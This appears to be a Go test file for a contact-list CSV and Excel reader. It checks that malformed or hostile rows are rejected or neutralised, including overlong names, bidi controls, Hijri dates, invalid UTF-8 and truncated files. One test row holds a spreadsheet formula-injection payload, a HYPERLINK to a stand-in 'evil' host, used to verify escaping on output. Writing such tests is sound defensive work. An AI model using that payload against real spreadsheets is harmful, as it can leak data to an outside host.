package list

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"ihyid/contacts"
)

// Whatever stands in one row, the others are read, and what is said of it holds no value.
func TestHostileRows(t *testing.T) {
	const head = "external_id,first_name,last_name,mother_first_name,father_first_name,date_of_birth\n"
	const good = "G1,Amal,Khoury,Nadia,Samir,1980-02-13\n"
	for _, tc := range []struct{ name, row, reason string }{
		{"a name of 10,000 characters", "X," + strings.Repeat("ب", 10_000) + ",K,N,S,1980-02-13", "longer"},
		{"a name of 10,000 letters", "X," + strings.Repeat("Secret", 1700) + ",K,N,S,1980-02-13", "longer"},
		{"a name a little too long", "X," + strings.Repeat("ب", 400) + ",K,N,S,1980-02-13", "longer"},
		{"only digits", "X,12345,K,N,S,1980-02-13", ""},
		{"emoji", "X,👩‍👩‍👧,😀,N,S,1980-02-13", ""},
		{"both directions", "X,Amal أمل,خوري Khoury,N,S,1980-02-13", ""},
		{"bidi controls", "X,\u202eAmal\u202c\u2066,\u200fK\u200e,N,S,1980-02-13", ""},
		{"nothing but an id", "X,,,,,", "name"},
		{"nothing at all", ",,,,,", "-"}, // a blank line
		{"zeros for a date", "X,Secret,K,N,S,0000-00-00", "not a date"},
		{"31 February", "X,Secret,K,N,S,31/02/1980", "not a date"},
		{"a Hijri date", "X,Secret,K,N,S,1401-05-03", "Hijri"},
		{"a Hijri date the other way round", "X,Secret,K,N,S,٣/٥/١٤٠١", "Hijri"},
		{"a Hijri date with its mark", "X,Secret,K,N,S,1401/05/03 هـ", ""},
		{"a Persian year", "X,Secret,K,N,S,1359-02-01", "Hijri or Persian"},
		{"the header again", strings.TrimSuffix(head, "\n"), "repeats the header"},
		{"a formula", `X,"=HYPERLINK(""http://evil"",""Secret"")",K,N,S,1980-02-13`, ""},
		{"a field too many", "X,Secret,K,N,S,1980-02-13,more", "fields"},
		{"invalid UTF-8", "X,Secret\xff,K,N,S,1980-02-13", "UTF-8"},
	} {
		r, err := NewReader(strings.NewReader(head+good+tc.row+"\n"+good), ReaderOptions{})
		if err != nil {
			t.Fatalf("%s: %v", tc.name, err)
		}
		var rows []Row
		for {
			row, err := r.Next()
			if errors.Is(err, io.EOF) {
				break
			}
			if err != nil {
				t.Fatalf("%s: %v", tc.name, err)
			}
			rows = append(rows, row)
		}
		if tc.reason == "-" {
			if len(rows) != 2 || rows[0].Err != nil || rows[1].Err != nil {
				t.Errorf("%s: %d rows", tc.name, len(rows))
			}
			continue
		}
		if len(rows) != 3 || rows[0].Err != nil || rows[2].Err != nil {
			t.Fatalf("%s: the other rows were not read: %d", tc.name, len(rows))
		}
		bad := rows[1]
		switch {
		case bad.Err != nil && (bad.Err.Line != 3 || strings.Contains(bad.Err.Error(), "Secret") || !strings.Contains(bad.Err.Reason, tc.reason)):
			t.Errorf("%s: %v", tc.name, bad.Err)
		case bad.Err == nil && tc.reason != "":
			t.Errorf("%s was taken", tc.name)
		}
		// What was taken can be encoded and written, and is harmless to a spreadsheet.
		if bad.Err == nil {
			hostileContact(t, tc.name, bad.Contact)
		}
	}
}

func hostileContact(t *testing.T, name string, c contacts.Contact) {
	t.Helper()
	for _, profile := range contacts.BuiltinProfiles() {
		p, err := contacts.BuiltinProfile(profile)
		if err != nil {
			t.Fatal(err)
		}
		p.NewEncoder().Digests(nil, &c)
	}
	var out bytes.Buffer
	w, err := NewWriter(&out, WriterOptions{})
	if err == nil {
		err = errors.Join(w.Write(&c), w.Close())
	}
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	for cell := range strings.SplitSeq(strings.Trim(strings.SplitAfterN(out.String(), "\n", 2)[1], "\r\n"), ",") {
		if cell = strings.TrimPrefix(cell, `"`); cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("%s is written as a formula: %q", name, cell)
		}
	}
	rows, _ := readAll(t, &out, ReaderOptions{})
	if len(rows) != 1 || rows[0].Err != nil || rows[0].Contact != c {
		t.Errorf("%s is not read back as it was", name)
	}
}

// A formula in a workbook counts by the value that was stored with it, and is not computed.
func TestFormulaInWorkbook(t *testing.T) {
	f := excelize.NewFile()
	defer f.Close()
	for cell, v := range map[string]any{"A1": "first_name", "B1": "last_name", "A2": "Amal", "B2": "Khoury", "A3": "Rana"} {
		if err := f.SetCellValue("Sheet1", cell, v); err != nil {
			t.Fatal(err)
		}
	}
	if err := f.SetCellFormula("Sheet1", "B3", `=HYPERLINK("http://example.org/"&A2,"x")`); err != nil {
		t.Fatal(err)
	}
	var file bytes.Buffer
	if err := f.Write(&file); err != nil {
		t.Fatal(err)
	}
	rows, _ := readAll(t, &file, ReaderOptions{})
	if len(rows) != 2 || rows[0].Err != nil || strings.Contains(fmt.Sprint(rows[1].Contact), "example.org") {
		t.Errorf("%d rows: %+v", len(rows), rows)
	}
}

// A file that is cut in the middle loses its last row, which is reported, and no other.
func TestCutInTheMiddle(t *testing.T) {
	const n = 1000
	in, out := io.Pipe()
	go func() {
		fmt.Fprintln(out, "external_id,first_name,last_name,date_of_birth")
		for i := range n - 1 {
			fmt.Fprintf(out, "P%07d,Amal,Khoury,1980-02-13\n", i)
		}
		fmt.Fprint(out, `P9999999,"Secret`)
		out.Close()
	}()
	r, err := NewReader(in, ReaderOptions{})
	if err != nil {
		t.Fatal(err)
	}
	good := 0
	var last *RowError
	for {
		row, err := r.Next()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		if row.Err == nil {
			good++
		} else {
			last = row.Err
		}
	}
	if good != n-1 || last == nil || last.Line != n+1 || strings.Contains(last.Error(), "Secret") {
		t.Errorf("%d good rows of %d, then %v", good, n, last)
	}
}

func TestParseMap(t *testing.T) {
	m, err := ParseMap([]string{"first_name= Prénom  usuel ", "last_name=Nom=x"})
	if err != nil || m["Prénom usuel"] != "first_name" || m["Nom=x"] != "last_name" {
		t.Errorf("%v, %v", m, err)
	}
	for _, bad := range [][]string{{"first_name"}, {"=x"}, {"nose=x"}, {"first_name="}, {"first_name=a", "first_name=b"}, {"first_name=a", "last_name=a"}} {
		if _, err := ParseMap(bad); !errors.Is(err, ErrHeader) {
			t.Errorf("%q: %v", bad, err)
		}
	}
	in := " Prénom usuel ,first_name,last_name\nA,x,B\n"
	rows, r := readAll(t, strings.NewReader(in), ReaderOptions{Map: map[string]string{"Prénom usuel": "first_name"}})
	if got := show(rows); got != "2: first_name=A last_name=B\n" || len(r.Unknown()) != 1 {
		t.Errorf("%s, not read: %q", got, r.Unknown())
	}
	// A mapping for several files: a column that this one has not is passed over, and takes nothing from the others.
	rows, _ = readAll(t, strings.NewReader("first_name,last_name\nA,B\n"), ReaderOptions{Map: map[string]string{"Prénom": "first_name"}, PassOver: true})
	if got := show(rows); got != "2: first_name=A last_name=B\n" {
		t.Error(got)
	}
	if _, err := NewReader(strings.NewReader("first_name,last_name\nA,B\n"), ReaderOptions{Map: map[string]string{"Prénom": "first_name"}}); !errors.Is(err, ErrHeader) {
		t.Error(err)
	}
}
